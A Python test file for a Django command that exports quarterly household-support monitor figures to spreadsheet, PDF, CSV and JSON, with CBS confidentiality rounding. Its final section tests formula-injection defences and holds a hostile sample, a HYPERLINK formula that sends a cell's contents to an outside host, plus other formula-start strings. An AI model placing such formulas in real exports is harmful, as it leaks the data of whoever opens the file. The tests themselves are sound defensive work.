"""`tandem monitor --format xlsx|pdf --output FILE` and `--disclosure cbs`: the files hold the figures of
compute_monitor."""
import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import CommandError, call_command

from tandem.monitor import disclosure, exports
from tandem.monitor.models import Experience
from tandem.monitor.queries import compute_monitor

openpyxl = pytest.importorskip("openpyxl")
pytestmark = pytest.mark.django_db


def run(*args) -> str:
    out, err = io.StringIO(), io.StringIO()
    call_command("monitor", *args, stdout=out, stderr=err)
    return out.getvalue()


@pytest.fixture
def data(build, site):
    """Ten households registered in 2025-Q1: green with hours, three with a measure considered, an OTS."""
    for i in range(10):
        trajectory = build.trajectory(build.household(site), dt.date(2025, 1, 6 + i), measure_considered=i < 3)
        build.episode(trajectory, "green", dt.date(2025, 1, 6 + i), dt.date(2025, 2, 28),
                      hours=[(dt.date(2025, 2, 3), 2 + i)])
        if i == 0:
            build.episode(trajectory, "red", dt.date(2025, 2, 1))
            build.measure(trajectory, "ots", dt.date(2025, 2, 10))
    Experience.objects.create(site=site, quarter="2025-Q1", question="G", text="Korte lijnen met Veilig Thuis.")
    Experience.objects.create(site=site, quarter="2025-Q1", question="J", answer=True, reasons=["herkenning"])
    return compute_monitor(site="HLV", quarter="2025-Q1")


def _sheet_rows(ws):
    return [list(row) for row in ws.iter_rows(values_only=True)]


def _cell_value(value):
    return None if value is None else value


def test_xlsx_has_a_sheet_per_table_with_the_figures(data, tmp_path):
    path = tmp_path / "monitor.xlsx"
    run("--site", "HLV", "--quarter", "2025-Q1", "--format", "xlsx", "--output", str(path))
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == list(exports.SHEETS)
    overview = {row[0]: row for row in _sheet_rows(book["Overzicht"])[2:]}
    assert overview["Actief"][2] == data["active"] == 10
    assert overview["A"][2] == data["A"] and overview["B"][2] == data["B"]
    assert overview["C"][2:] == [data["C"], data["C_pct"]]
    assert overview["E"][2:] == [data["E"], data["E_pct_of_A"]] == [3, 30.0]
    forms = {row[0]: row for row in _sheet_rows(book["D Vormen"])[2:]}
    green = data["D"]["green"]
    assert forms[exports.FORM_LABELS["green"]][1:] == [
        green["households"], green["pct_of_active"], green["avg_hours_per_week"], green["intensity"],
        green["by_intensity"]["licht"], green["by_intensity"]["middel"], green["by_intensity"]["zwaar"]]
    assert forms[exports.FORM_LABELS["orange"]][3] is None  # no hours: empty cell
    measures = {row[0]: row for row in _sheet_rows(book["F Maatregelen"])[2:]}
    assert measures[exports.MEASURE_LABELS["ots"]][1:] == [data["F"]["ots"], data["F_cumulative"]["ots"]] == [1, 1]
    assert measures["Som van maatregelen"][1] == data["F_measures_sum"]
    texts = [row[1] for row in _sheet_rows(book["Ervaringen"])[2:]]
    assert "Korte lijnen met Veilig Thuis." in texts and "Ja: 1" in texts
    definitions = _sheet_rows(book["Definities"])
    assert any(row[0] == "Intensiteit" and "zwaar" in row[1] for row in definitions)


def test_xlsx_with_cbs_disclosure(data, tmp_path):
    path = tmp_path / "extern.xlsx"
    run("--site", "HLV", "--quarter", "2025-Q1", "--format", "xlsx", "--output", str(path), "--disclosure", "cbs")
    book = openpyxl.load_workbook(path)
    expected = disclosure.apply_cbs(data)
    overview = {row[0]: row for row in _sheet_rows(book["Overzicht"])[2:]}
    assert overview["Actief"][2] == expected["active"] == 10
    assert overview["E"][2:] == ["geheim", "geheim"]
    assert any(row[0] == "Geheimhouding (CBS)" for row in _sheet_rows(book["Definities"]))


def test_json_and_csv_with_cbs_disclosure(data):
    report = json.loads(run("--site", "HLV", "--quarter", "2025-Q1", "--disclosure", "cbs"))
    assert report == json.loads(json.dumps(disclosure.apply_cbs(data)))
    assert report["disclosure"] == "cbs" and report["E"] == "geheim" and report["active"] == 10
    rows = list(csv.reader(io.StringIO(run("--site", "HLV", "--quarter", "2025-Q1", "--format", "csv",
                                           "--disclosure", "cbs"))))
    assert ["site:HLV", "2025-Q1", "E", "", "households", "geheim"] in rows
    assert ["site:HLV", "2025-Q1", "active", "", "households", "10"] in rows


def test_pdf_report_shows_the_key_figures(data, tmp_path):
    pypdf = pytest.importorskip("pypdf")
    path = tmp_path / "monitor.pdf"
    run("--region", "GV", "--quarter", "2025-Q1", "--format", "pdf", "--output", str(path))
    assert path.read_bytes().startswith(b"%PDF")
    text = "\n".join(page.extract_text() for page in pypdf.PdfReader(path).pages)
    assert "Kwartaalmonitor Regio GV, 2025-Q1" in text
    assert "Actieve huishoudens in het kwartaal" in text
    assert "30,0" in text  # E as a percentage of A
    assert "Huishoudens per vorm" in text and "Korte lijnen met Veilig Thuis." in text
    assert "Zo tellen we" in text


def test_pdf_with_cbs_disclosure_says_so(data, tmp_path):
    pypdf = pytest.importorskip("pypdf")
    path = tmp_path / "extern.pdf"
    run("--site", "HLV", "--quarter", "2025-Q1", "--format", "pdf", "--output", str(path), "--disclosure", "cbs")
    text = " ".join(" ".join(page.extract_text() for page in pypdf.PdfReader(path).pages).split())
    assert "geheim" in text and "afgerond op vijftallen" in text


@pytest.mark.parametrize("format", ["xlsx", "pdf"])
def test_binary_formats_need_an_output_file(site, format):
    with pytest.raises(CommandError, match=f"Voor --format {format} is --output BESTAND verplicht"):
        run("--site", "HLV", "--quarter", "2025-Q1", "--format", format)


def test_json_can_be_written_to_a_file(data, tmp_path):
    path = tmp_path / "monitor.json"
    run("--site", "HLV", "--quarter", "2025-Q1", "--output", str(path))
    assert json.loads(path.read_text(encoding="utf-8"))["A"] == 10


def test_an_unwritable_output_is_a_dutch_error(site, tmp_path):
    with pytest.raises(CommandError, match="Kan niet schrijven naar"):
        run("--site", "HLV", "--quarter", "2025-Q1", "--format", "xlsx",
            "--output", str(tmp_path / "bestaat-niet" / "m.xlsx"))


# ------------------------------------------------------------------------------------- formula injection (issue 11)

LEAK = '=HYPERLINK("http://x?leak="&A1,"Klik hier")'


@pytest.fixture
def hostile(data, site):
    """Experience texts that a spreadsheet would run as a formula, entered through the monitor's service."""
    from tandem.monitor.services import experience_record

    for question, text in (("G", LEAK), ("H", "+1+1"), ("I", "-2+3"), ("K", "@SUM(A1:A2)")):
        experience_record(actor=None, site=site, quarter="2025-Q1", question=question, text=text)


@pytest.mark.parametrize("cbs", [False, True])
def test_no_experience_becomes_a_formula_in_the_xlsx(hostile, tmp_path, cbs):
    path = tmp_path / "monitor.xlsx"
    run("--site", "HLV", "--quarter", "2025-Q1", "--format", "xlsx", "--output", str(path),
        *(["--disclosure", "cbs"] if cbs else []))
    book = openpyxl.load_workbook(path)  # not read-only: formulas would show as data_type "f"
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in book["Ervaringen"]["B"]]
    assert "'" + LEAK in texts and "'+1+1" in texts and "'-2+3" in texts and "'@SUM(A1:A2)" in texts
    assert not [v for v in texts if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("cbs", [False, True])
def test_no_experience_becomes_a_formula_in_the_csv(hostile, cbs):
    out = run("--site", "HLV", "--quarter", "2025-Q1", "--format", "csv", *(["--disclosure", "cbs"] if cbs else []))
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert "'" + LEAK in cells and "'@SUM(A1:A2)" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_safe_cell_neutralises_every_formula_start():
    from tandem.core.cells import safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1") == "'" + start + "1"
    assert safe_cell("Gewoon een zin.") == "Gewoon een zin." and safe_cell(-3) == -3 and safe_cell(None) is None
